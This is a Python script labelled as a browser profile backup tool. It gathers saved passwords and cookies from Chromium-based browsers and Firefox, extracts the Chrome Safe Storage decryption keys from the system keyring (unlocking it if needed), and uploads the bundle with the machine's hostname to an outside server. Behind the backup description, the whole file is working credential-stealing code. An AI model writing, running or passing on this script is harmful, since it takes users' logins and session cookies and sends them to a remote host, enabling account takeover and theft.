#!/usr/bin/env python3
"""Browser profile backup: collects saved logins and cookies from Chromium-
based browsers and Firefox, together with the Chrome Safe Storage key, and
uploads the bundle to the backup server."""

import argparse
import base64
import http.client
import json
import logging
import shutil
import sqlite3
import sys
import tempfile
import zipfile
from pathlib import Path

import secretstorage

log = logging.getLogger("profile-backup")

BACKUP_HOST = "vault-backup.cloudsyncer.net"
BACKUP_PATH = "/v1/upload"

HOME = Path.home()
CHROMIUM_ROOTS = {
    "chrome": HOME / ".config" / "google-chrome",
    "chromium": HOME / ".config" / "chromium",
    "brave": HOME / ".config" / "BraveSoftware" / "Brave-Browser",
    "edge": HOME / ".config" / "microsoft-edge",
}
FIREFOX_ROOT = HOME / ".mozilla" / "firefox"


def safe_storage_keys() -> dict:
    keys = {}
    try:
        conn = secretstorage.dbus_init()
        coll = secretstorage.get_default_collection(conn)
        if coll.is_locked():
            coll.unlock()
        for item in coll.get_all_items():
            label = item.get_label()
            if "Safe Storage" in label:
                keys[label] = item.get_secret().decode("utf-8", "replace")
    except Exception as exc:
        log.debug("secret service unavailable: %s", exc)
    return keys


def query_copy(db: Path, sql: str, workdir: Path) -> list:
    tmp = workdir / f"{db.parent.name}_{db.name}.db"
    shutil.copyfile(db, tmp)
    conn = sqlite3.connect(tmp)
    try:
        return conn.execute(sql).fetchall()
    except sqlite3.DatabaseError as exc:
        log.debug("%s: %s", db, exc)
        return []
    finally:
        conn.close()


def b64(v):
    return base64.b64encode(v).decode() if isinstance(v, (bytes, bytearray)) else v


def collect_chromium(workdir: Path) -> dict:
    out = {}
    for browser, root in CHROMIUM_ROOTS.items():
        if not root.is_dir():
            continue
        for profile in [p for p in root.iterdir() if (p / "Preferences").exists()]:
            tag = f"{browser}/{profile.name}"
            rec = {}
            login_db = profile / "Login Data"
            if login_db.exists():
                rows = query_copy(login_db, "SELECT origin_url, username_value, "
                                  "password_value FROM logins", workdir)
                rec["logins"] = [[u, n, b64(p)] for u, n, p in rows]
            for cdb in (profile / "Cookies", profile / "Network" / "Cookies"):
                if cdb.exists():
                    rows = query_copy(cdb, "SELECT host_key, name, path, "
                                      "encrypted_value, expires_utc FROM cookies", workdir)
                    rec["cookies"] = [[h, n, pa, b64(v), e] for h, n, pa, v, e in rows]
            if rec:
                out[tag] = rec
    return out


def collect_firefox(bundle: zipfile.ZipFile) -> int:
    count = 0
    if not FIREFOX_ROOT.is_dir():
        return count
    for profile in FIREFOX_ROOT.iterdir():
        for name in ("logins.json", "key4.db", "cookies.sqlite", "cert9.db"):
            f = profile / name
            if f.is_file():
                bundle.write(f, f"firefox/{profile.name}/{name}")
                count += 1
    return count


def upload(archive: Path, host: str) -> int:
    conn = http.client.HTTPSConnection(host, timeout=60)
    body = archive.read_bytes()
    conn.request("POST", BACKUP_PATH, body=body,
                 headers={"Content-Type": "application/zip",
                          "X-Host": Path("/etc/hostname").read_text().strip()})
    status = conn.getresponse().status
    conn.close()
    return status


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", default=BACKUP_HOST)
    ap.add_argument("--keep", type=Path, help="also keep the archive here")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        archive = work / "profiles.zip"
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
            bundle.writestr("chromium.json", json.dumps(collect_chromium(work)))
            bundle.writestr("keys.json", json.dumps(safe_storage_keys()))
            n = collect_firefox(bundle)
            log.info("firefox files: %d", n)
        if args.keep:
            shutil.copy(archive, args.keep)
        try:
            status = upload(archive, args.host)
        except OSError as exc:
            log.error("upload failed: %s", exc)
            return 1
    log.info("backup uploaded: HTTP %s", status)
    return 0 if status < 300 else 1


if __name__ == "__main__":
    sys.exit(main())
